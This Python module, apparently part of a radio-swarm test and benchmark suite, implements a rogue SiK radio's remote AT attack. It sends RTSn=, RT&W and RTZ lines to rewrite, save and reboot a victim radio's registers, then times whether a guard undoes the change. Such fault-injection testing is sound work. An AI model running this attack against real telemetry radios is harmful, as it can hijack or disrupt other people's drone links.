"""A rogue radio's remote AT attack on one register, and how to tell it landed.

Theory of operation
-------------------
Any SiK radio in range runs the ``RT`` commands it hears. A rogue's host puts its
own radio in command mode and sends, for one register ``Sn``:

* ``RTSn=v``: the victim's RAM (what ``ATI5`` shows) takes ``v``; a register the
  firmware applies at once (TXPOWER, DUTY_CYCLE, LBT_RSSI, MAVLINK, RTSCTS,
  OPPRESEND, and in multipoint NODEID, NODEDESTINATION, SYNCANY, NODECOUNT: SiK's
  ``param_set``) changes the running radio there and then;
* ``RT&W``: the victim saves it to flash;
* ``RTZ``: the victim reboots and runs with it (the other registers).

In multipoint every line carries ``,<node>``, the victim's node id; after an attack
on NODEID itself (which applies at once) the victim answers to the new id, so
``RT&W`` and ``RTZ`` are addressed to it. ``RT`` lines are unacknowledged over the
air: the rogue repeats ``RTSn=`` until the victim answers ``OK`` (or gives up after
``tries``), sends ``RT&W`` likewise, and ``RTZ`` (never answered) ``tries`` times.

Pure part: :func:`plan_attack` chooses, for a register and the victim's current
values, a value the firmware accepts as it is (no rewrite on set or at boot, so
the victim shows exactly that value) and that differs from the current one, and
the ``RT`` lines; :func:`landed` says whether a victim's values show it. I/O part:
:func:`send_attack` sends a plan through a rogue's :class:`SikConfigurator`
already in command mode, :func:`attack_radio` does the whole rogue (its port, command
mode, the attack, ``ATO``), and :func:`play_rt_attack` plays one whole fault: the
attack, its landing (the victim saved it and runs with it) and its undoing (back at
the value it had), timed. Tests and ``swarm bench faults`` both use these; on the
emulator, its statistics (``radios[i]["params"|"saved"|"active"]``,
:func:`registers_from_stats`) show an attack land and be undone from another process.
"""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from radios.errors import ATError, ConfigError
from radios.sik.config import SikConfigurator, open_port, strip_node
from radios.sik.param_table import spec_for
from radios.sik.params import validate_user_value

#: per register, values a rogue writes (the first that differs from the victim's is
#: used): each is accepted and shown as it is by the firmware (915 MHz band, HM-TRP)
CANDIDATES: dict[str, tuple[int, ...]] = {
    "SERIAL_SPEED": (115, 38),
    "AIR_SPEED": (128, 32),
    "NETID": (77, 78),
    "TXPOWER": (1, 2),
    "ECC": (1, 0),
    "MAVLINK": (0, 1),
    "OPPRESEND": (1, 0),
    "MIN_FREQ": (916000, 917000),
    "MAX_FREQ": (927000, 926000),
    "NUM_CHANNELS": (20, 10),
    "DUTY_CYCLE": (10, 20),
    "LBT_RSSI": (50, 60),
    "MANCHESTER": (1, 0),
    "RTSCTS": (1, 0),
    "MAX_WINDOW": (33, 50),
    "NODEID": (0, 1),  # node 0 is the base: a second base collides with the first
    "NODEDESTINATION": (0, 1),
    "SYNCANY": (1, 0),
    "ENCRYPTION_LEVEL": (1, 0),
}


@dataclass(frozen=True)
class Attack:
    """One register changed over the air: what the victim will show, and the lines."""

    name: str
    value: int
    set_line: str  # RTSn=v[,node]
    save_line: str  # RT&W[,node]
    reboot_line: str  # RTZ[,node]
    applies_now: bool  # the running radio changes at RTSn=, without a reboot


def plan_attack(flavour: str, name: str, current: Mapping[str, int], node: int | None = None) -> Attack:
    """The attack on register ``name`` of a victim whose values are ``current`` (its
    ``ATI5``; NODEID and NODECOUNT matter in multipoint), as node ``node`` (multipoint;
    None: every radio that hears it). Raises :class:`ConfigError` for a register the
    firmware does not have or no candidate value that differs."""
    spec = spec_for(flavour, name)
    now = current.get(spec.name)
    if spec.name == "NODECOUNT":
        options: tuple[int, ...] = ((now or 2) + 1,)
    elif spec.name == "NODEID":  # the highest id first: after a NODECOUNT attack, nobody's
        options = (current.get("NODECOUNT", 2) - 1, *CANDIDATES["NODEID"])
    else:
        options = CANDIDATES.get(spec.name, ())
    value = None
    for option in options:
        if option == now:
            continue
        if spec.name == "NODEDESTINATION" and option == current.get("NODEID"):
            continue  # the firmware refuses a destination equal to the node's own id
        if spec.name == "NODEID" and option >= current.get("NODECOUNT", 2):
            continue
        value = validate_user_value(flavour, spec.name, option)
        break
    if value is None:
        raise ConfigError(f"no attack value for {spec.name} (the victim shows {now})")
    suffix = "" if node is None else f",{node}"
    after = f",{value}" if spec.name == "NODEID" and node is not None else suffix
    return Attack(
        spec.name,
        value,
        f"RTS{spec.index}={value}{suffix}",
        f"RT&W{after}",
        f"RTZ{after}",
        spec.applies == "now",
    )


def landed(values: Mapping[str, int], attack: Attack) -> bool:
    """Whether a victim's register values show the attack's value."""
    return values.get(attack.name) == attack.value


def send_line(conf: SikConfigurator, line: str, tries: int = 5) -> bool:
    """One ``RT`` line through the rogue's radio (``conf`` local, in command mode),
    repeated until a victim answers ``OK`` (at most ``tries`` times); whether one did.
    Raises :class:`~radios.errors.LinkClosedError` if the rogue's own port fails."""
    for _ in range(tries):
        with contextlib.suppress(ATError):
            if "OK" in (strip_node(r) for r in conf.command(line, timeout=1.5)):
                return True
    return False


def send_reboot(conf: SikConfigurator, line: str, times: int = 2) -> None:
    """``RTZ`` (never answered: the victim reboots) sent ``times`` times, as a rogue
    would against a lossy link."""
    for _ in range(times):
        with contextlib.suppress(ATError):
            conf.command(line, timeout=0.3, expect_reply=False)


def send_attack(conf: SikConfigurator, attack: Attack, tries: int = 5, reboots: int = 2) -> bool:
    """Send ``attack`` (``RTSn=``, ``RT&W``, then ``RTZ`` ``reboots`` times) through the
    rogue's radio. Returns whether the victim answered ``OK`` to ``RTSn=`` and
    ``RT&W``. Raises :class:`~radios.errors.LinkClosedError` if the rogue's own port
    fails."""
    answered = send_line(conf, attack.set_line, tries) and send_line(conf, attack.save_line, tries)
    send_reboot(conf, attack.reboot_line, reboots)
    return answered


def attack_radio(rogue_path: str, attack: Attack, *, flavour: str, baud: int = 57600, tries: int = 5) -> bool:
    """The rogue's host, whole: open its radio at ``rogue_path``, command mode, send
    ``attack`` (:func:`send_attack`), back to data mode, close. Returns whether the
    victim answered ``OK`` to ``RTSn=`` and ``RT&W`` (an attack on NODEID never is: the
    victim answers to its new id). Raises :class:`~radios.errors.LinkOpenError` if the
    rogue's port cannot be opened, :class:`~radios.errors.ATTimeoutError` if its radio
    does not enter command mode."""
    port = open_port(rogue_path, baud)
    try:
        conf = SikConfigurator(port, flavour=flavour, port_name=rogue_path)
        conf.enter_command_mode()
        try:
            return send_attack(conf, attack, tries)
        finally:
            with contextlib.suppress(ATError):
                conf.exit_command_mode()
    finally:
        port.close()


#: a victim's registers, three copies: (RAM as ATI5 shows it, flash, what it runs with);
#: None when they cannot be read just now (a statistics file being rewritten)
Registers = tuple[Mapping[str, int], Mapping[str, int], Mapping[str, int]]


@dataclass(frozen=True)
class RtAttackOutcome:
    """One attack played (:func:`play_rt_attack`): what was sent, whether it landed,
    whether it was undone, and when (seconds)."""

    attack: Attack
    before: int  # the victim's value before the attack
    answered: bool  # the victim answered OK to RTSn= and RT&W
    landed_s: float | None  # from the first RT line until the victim's flash held it
    restored_s: float | None  # from landing until it was back at ``before`` in all three

    def describe(self) -> str:
        a = self.attack
        text = f"{a.set_line} + {a.save_line} + {a.reboot_line} ({a.name} {self.before} -> {a.value}): "
        if self.landed_s is None:
            return text + "did not land"
        text += f"landed after {self.landed_s:.1f} s, "
        if self.restored_s is None:
            return text + "never restored"
        return text + f"restored {self.restored_s:.1f} s later"


def registers_from_stats(path: str, radio: int) -> Registers | None:
    """Radio ``radio``'s registers from an emulator's ``--stats-json`` file (None if the
    file cannot be read or parsed just now)."""
    try:
        with open(path, encoding="utf-8") as fh:
            entry = json.load(fh)["radios"][radio]
        return entry["params"], entry["saved"], entry["active"]
    except (OSError, ValueError, KeyError, IndexError, TypeError):
        return None


def play_rt_attack(
    rogue_path: str,
    flavour: str,
    name: str,
    node: int | None,
    read_victim: Callable[[], Registers | None],
    *,
    land_within: float = 30.0,
    restore_within: float = 120.0,
    poll_s: float = 0.2,
) -> RtAttackOutcome:
    """A whole remote-AT fault: plan the attack on register ``name`` from the victim's
    current values, send it from the rogue's radio (:func:`attack_radio`), wait for it
    to land (saved in the victim's flash, within ``land_within`` s) and then to be undone
    (back at the value it had in RAM, flash and running, within ``restore_within`` s). Times use
    ``time.monotonic``; ``read_victim`` gives the victim's registers (the emulator's
    statistics file: :func:`registers_from_stats`). Raises
    :class:`~radios.errors.ConfigError` if the victim cannot be read before the attack,
    what :func:`attack_radio` raises for the rogue's own radio."""
    deadline = time.monotonic() + 10.0
    first = read_victim()
    while first is None and time.monotonic() < deadline:
        time.sleep(poll_s)
        first = read_victim()
    if first is None:
        raise ConfigError("cannot read the victim's registers before the attack")
    ram = first[0]
    attack = plan_attack(flavour, name, ram, node)
    before = ram[attack.name]
    t0 = time.monotonic()
    answered = attack_radio(rogue_path, attack, flavour=flavour)

    def shows(value: int, *, saved: bool = False) -> bool:
        regs = read_victim()
        if regs is None:
            return False
        if saved:
            return regs[1].get(attack.name) == value
        return all(copy.get(attack.name) == value for copy in regs)

    # landed: saved in the victim's flash (RT&W took), so the change outlives a reboot: a
    # guard that reads ATI5 between RT&W and RTZ undoes it before the radio ran with it,
    # which is an attack that landed and was undone, not one that failed; a change only
    # in RAM that the rogue's own RTZ reverts (its RT&W lost) has not landed
    landed_at = _until(lambda: shows(attack.value, saved=True), t0 + land_within, poll_s)
    if landed_at is None:
        return RtAttackOutcome(attack, before, answered, None, None)
    restored_at = _until(lambda: shows(before), landed_at + restore_within, poll_s)
    return RtAttackOutcome(
        attack,
        before,
        answered,
        landed_at - t0,
        None if restored_at is None else restored_at - landed_at,
    )


def _until(pred: Callable[[], bool], deadline: float, poll_s: float) -> float | None:
    """When ``pred`` first held (``time.monotonic``), or None if not by ``deadline``."""
    while True:
        now = time.monotonic()
        if pred():
            return now
        if now >= deadline:
            return None
        time.sleep(poll_s)
